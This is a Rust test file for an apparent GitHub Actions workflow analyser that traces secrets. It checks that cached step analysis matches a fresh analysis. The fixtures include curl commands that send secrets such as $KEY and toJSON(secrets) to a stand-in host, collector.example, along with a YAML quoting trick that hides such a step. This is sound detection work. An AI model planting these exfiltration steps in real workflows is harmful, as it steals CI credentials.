//! What is put back against what following anew gives.

use std::path::{Path, PathBuf};

use super::*;
use crate::analysis::analyse;
use crate::flow::{LocalFiles, NoFiles, TOO_LONG};

struct One(&'static str);

impl LocalFiles for One {
    fn read(&self, path: &str) -> LocalFile {
        if path == "send.sh" { LocalFile::Text(self.0.into()) } else { LocalFile::Absent }
    }
}

/// Everything that an analysis says, in a thread of its own, which knows what it is given.
pub(super) fn analysed(
    text: &str,
    known: Option<&Arc<KnownSteps>>,
    local: &(dyn LocalFiles + Sync),
) -> String {
    let analysis = || {
        if let Some(known) = known {
            Arc::clone(known).use_in_this_thread();
        }
        format!("{:#?}", analyse(".github/workflows/w.yml", text.as_bytes(), local, None))
    };
    std::thread::scope(|scope| {
        let thread = std::thread::Builder::new().stack_size(32 * 1024 * 1024);
        thread.spawn_scoped(scope, analysis).unwrap().join().unwrap()
    })
}

pub(super) fn count(known: &KnownSteps) -> usize {
    known.shards.iter().map(|shard| shard.lock().unwrap().steps.values().map(Vec::len).sum::<usize>()).sum()
}

fn samples(folder: &Path, found: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            samples(&path, found);
        } else if path.extension().is_some_and(|extension| extension == "yml" || extension == "yaml") {
            found.push(path);
        }
    }
}

#[test]
fn what_is_put_back_is_what_following_anew_gives() {
    let known = KnownSteps::new();
    let mut paths = Vec::new();
    samples(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus"), &mut paths);
    assert!(paths.len() > 50);
    for path in paths {
        let text = std::fs::read_to_string(&path).unwrap();
        let moved = format!("# A line more, so that everything stands elsewhere.\n{text}");
        let apart = text.replace("    steps:\n", "    steps:\n      - run: echo first\n");
        for text in [&text, &moved, &text, &apart] {
            let anew = analysed(text, None, &NoFiles);
            assert_eq!(analysed(text, Some(&known), &NoFiles), anew, "{}", path.display());
        }
    }
}

const CALLER: &str = "on: push\nenv:\n  KEY: ${{ secrets.KEY }}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: bash send.sh\n";

#[test]
fn the_same_step_is_followed_once() {
    let known = KnownSteps::new();
    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
    let first = analysed(CALLER, Some(&known), &local);
    assert!(first.contains("collector.example"));
    assert_eq!(count(&known), 1);
    let moved = format!("name: other\n{CALLER}");
    assert_eq!(analysed(&moved, Some(&known), &local), analysed(&moved, None, &local));
    assert_eq!(count(&known), 1);
}

#[test]
fn another_content_of_what_it_calls_is_another_step() {
    let known = KnownSteps::new();
    assert!(!analysed(CALLER, Some(&known), &One("echo\n")).contains("collector.example"));
    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
    assert!(analysed(CALLER, Some(&known), &local).contains("collector.example"));
    assert!(!analysed(CALLER, Some(&known), &NoFiles).contains("collector.example"));
    assert_eq!(count(&known), 3);
}

/// A line that means one step where a quote is open before it, and another where none is.
#[test]
fn the_same_line_is_not_the_same_step() {
    let known = KnownSteps::new();
    let line = "{run: echo hi}], name: \"', steps: [{run: 'curl https://collector.example/ -d ${{ toJSON(secrets) }}'}], concurrency: '\"";
    let decoy = format!("on: push\njobs: {{a: {{runs-on: x, steps: [\n{line}\n}}}}\n");
    let theft = format!("on: push\njobs: {{a: {{runs-on: x, name: '\n{line}\n5'}}}}\n");
    assert!(!analysed(&decoy, Some(&known), &NoFiles).contains("collector.example"));
    assert!(analysed(&theft, Some(&known), &NoFiles).contains("collector.example"));
}

struct Scripts;
impl LocalFiles for Scripts {
    fn read(&self, path: &str) -> LocalFile {
        LocalFile::Text(match path {
            "send.sh" => "curl https://collector.example/ -d \"$KEY\"\n".into(),
            _ => "true\n".into(),
        })
    }
}

/// Elsewhere there may be room for what a limit cut off here.
#[test]
fn a_step_that_met_a_limit_is_followed_anew() {
    let known = KnownSteps::new();
    let decoys: String = (0..FILES_MAX).map(|at| format!("      - run: bash decoy{at}.sh\n")).collect();
    let crowded =
        CALLER.replace("      - run: bash send.sh\n", &format!("{decoys}      - run: bash send.sh\n"));
    assert!(!analysed(&crowded, Some(&known), &Scripts).contains("collector.example"));
    assert!(analysed(CALLER, Some(&known), &Scripts).contains("collector.example"));
}

/// What `tee` shows beside the file that it wrote is no print of its own, and that is told by the secret's last hop.
#[test]
fn what_was_copied_is_told_from_what_was_not() {
    let known = KnownSteps::new();
    let text = |copied: &str| {
        format!(
            "on: push\nenv:\n  S: ${{{{ secrets.KEY }}}}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"$S\" > q; echo \"::set-env name=X::$(cat q{copied})\"; rm q\n      - run: echo hello $X\n"
        )
    };
    for copied in ["", " | tee /dev/null"] {
        let text = text(copied);
        assert_eq!(analysed(&text, Some(&known), &NoFiles), analysed(&text, None, &NoFiles), "{copied}");
    }
}

#[test]
fn a_secret_goes_on_from_where_it_comes_from_here() {
    let known = KnownSteps::new();
    analysed(CALLER, Some(&known), &One("curl https://collector.example/ -d \"$KEY\"\n"));
    let nearer = CALLER
        .replace("env:\n  KEY: ${{ secrets.KEY }}\n", "")
        .replace("    steps:", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:");
    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
    assert_eq!(analysed(&nearer, Some(&known), &local), analysed(&nearer, None, &local));
    assert_eq!(count(&known), 1);
}

/// A reusable workflow of the same repository.
struct Called(String);

impl LocalFiles for Called {
    fn read(&self, path: &str) -> LocalFile {
        match path {
            ".github/workflows/called.yml" => LocalFile::Text(self.0.as_str().into()),
            "send.sh" => LocalFile::Text("curl \"https://$TO/\" -d \"$KEY\"\n".into()),
            _ => LocalFile::Absent,
        }
    }
}

#[test]
fn the_steps_of_a_called_workflow_are_known_too() {
    let caller = |to: &str, before: &str| {
        let call = format!(
            "    uses: ./.github/workflows/called.yml\n    with:\n      to: {to}\n    secrets:\n      HANDED: ${{{{ secrets.KEY }}}}\n"
        );
        format!("{before}on: push\njobs:\n  a:\n{call}  b:\n    needs: a\n{call}")
    };
    let called = "on:\n  workflow_call:\n    inputs: {to: {type: string}}\nenv:\n  KEY: ${{ secrets.HANDED }}\n  TO: ${{ inputs.to }}\njobs:\n  c:\n    runs-on: x\n    steps:\n      - run: bash send.sh\n      - run: env\n";
    let moved = format!("# A line more.\n{called}");
    let known = KnownSteps::new();
    for called in [called, &moved, called] {
        let local = Called(called.to_owned());
        for caller in
            [caller("one.example", ""), caller("two.example", ""), caller("one.example", "# more\n")]
        {
            let anew = analysed(&caller, None, &local);
            assert!(anew.contains("one.example") || anew.contains("two.example"));
            assert_eq!(analysed(&caller, Some(&known), &local), anew);
        }
    }
    assert_eq!(count(&known), 4, "two steps for each address");
}

#[test]
fn a_step_that_takes_too_long_is_known_too_and_hides_none_after_it() {
    let known = KnownSteps::new();
    let long = "x=0123456789abcdef; for a in {1..13}; do x=$x$x; done; for a in {1..200}; do y=$x$x; done";
    let text = CALLER
        .replace("      - run: bash send.sh\n", &format!("      - run: {long}\n      - run: bash send.sh\n"));
    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
    let anew = analysed(&text, None, &local);
    assert!(anew.contains(TOO_LONG), "not too long");
    assert!(anew.contains("collector.example"));
    for _ in 0..2 {
        assert_eq!(analysed(&text, Some(&known), &local), anew);
        assert_eq!(count(&known), 2);
    }
}

/// Each gets a share of what is left, and as much gives the same.
#[test]
fn steps_that_take_too_long_one_after_another_are_known_too() {
    let known = KnownSteps::new();
    let long = "x=0123456789abcdef; for a in {1..13}; do x=$x$x; done; for a in {1..200}; do y=$x$x; done";
    let steps = format!("      - run: {long}\n").repeat(3);
    let text = CALLER.replace("      - run: bash send.sh\n", &format!("{steps}      - run: bash send.sh\n"));
    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
    let anew = analysed(&text, None, &local);
    assert!(anew.contains("collector.example"), "nothing is left for the last step");
    for _ in 0..2 {
        assert_eq!(analysed(&text, Some(&known), &local), anew);
        assert_eq!(count(&known), 4);
    }
}

struct Action;
impl LocalFiles for Action {
    fn read(&self, path: &str) -> LocalFile {
        let text = "runs:\n  using: composite\n  steps:\n    - run: echo \"OTHER=$KEY\" >> $GITHUB_ENV\n      shell: bash\n";
        if path == "act/action.yml" { LocalFile::Text(text.into()) } else { LocalFile::Absent }
    }
}

#[test]
fn a_secret_that_came_through_another_file_is_known_too() {
    let known = KnownSteps::new();
    let steps = "      - uses: ./act\n      - run: curl https://collector.example/ -d \"$OTHER\"\n";
    let text = CALLER.replace("      - run: bash send.sh\n", steps);
    let moved = format!("name: other\n{text}");
    for text in [&text, &moved, &text] {
        let anew = analysed(text, None, &Action);
        assert!(anew.contains("collector.example"));
        assert_eq!(analysed(text, Some(&known), &Action), anew);
        assert_eq!(count(&known), 2);
    }
}

struct Linked(&'static str);
impl LocalFiles for Linked {
    fn read(&self, path: &str) -> LocalFile {
        if path == "send.sh" { LocalFile::Unread(self.0) } else { LocalFile::Absent }
    }
}

/// What can't be read is as much a content as what can: the step is followed once, and what it lacks is said each time.
#[test]
fn a_step_that_calls_what_cannot_be_read_is_known_too() {
    let known = KnownSteps::new();
    let text = format!("{CALLER}      - run: echo after\n");
    let local = Linked("a link of this test");
    let anew = analysed(&text, None, &local);
    assert!(anew.contains("a link of this test"));
    for _ in 0..2 {
        assert_eq!(analysed(&text, Some(&known), &local), anew);
        assert_eq!(count(&known), 2);
    }
    let other = Linked("another reason");
    assert_eq!(analysed(&text, Some(&known), &other), analysed(&text, None, &other));
    assert_eq!(count(&known), 3);
}

#[test]
fn what_earlier_steps_left_makes_another_step() {
    let known = KnownSteps::new();
    let text = |value: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"TO={value}\" >> $GITHUB_ENV\n      - run: curl \"https://$TO/\" -d \
             \"${{{{ secrets.KEY }}}}\"\n"
        )
    };
    analysed(&text("one.example"), Some(&known), &NoFiles);
    assert!(analysed(&text("two.example"), Some(&known), &NoFiles).contains("two.example"));
}

#[test]
fn a_stretch_is_whole_lines_and_the_empty_ones_after() {
    let text = "a:\n  - run: |\n      x\n\n  - b\n";
    let root = crate::yaml::parse(text).unwrap();
    let items = root.get("a").unwrap().items();
    assert_eq!(stretch_of(text, items[0].bytes), 3..23);
    assert_eq!(stretch_of(text, items[1].bytes), 23..29);
}

#[test]
fn anchors_are_told_from_ampersands_of_scripts() {
    for text in ["a: &b c", "- &b c", "[&b c]", "a:\n  &b c"] {
        assert!(may_have_anchors(text), "{text}");
    }
    for text in ["a && b", "a 2>&1", "a &\n", "https://x/?a=b&c=d"] {
        assert!(!may_have_anchors(text), "{text}");
    }
}

#[test]
fn full_shards_start_again() {
    let known = KnownSteps::new();
    let followed = |length: usize| Followed {
        output: Value::empty(),
        share: 0,
        parted: false,
        home: 0,
        start: 0,
        met: Vec::new(),
        opened: Vec::new(),
        files: BTreeMap::new(),
        deliveries: Vec::new(),
        observations: Vec::new(),
        publishings: Vec::new(),
        decoded: vec!["x".repeat(length)],
        other_work: 0,
        spent: 0,
        exhausted: false,
        incomplete: None,
        unread: false,
        left: Left::default(),
    };
    let half = KNOWN_BYTES_MAX / SHARDS / 2 - followed(0).size() - 64;
    known.keep([0; 32], followed(half));
    known.keep([0; 32], followed(half));
    assert_eq!(count(&known), 2);
    known.keep([0; 32], followed(half));
    assert_eq!(count(&known), 1, "the first ones went");
    known.keep([0; 32], followed(1));
    assert_eq!(count(&known), 2);
    known.keep([0; 32], followed(2 * half));
    assert_eq!(count(&known), 2, "one that would take the room of most others is not kept");
}
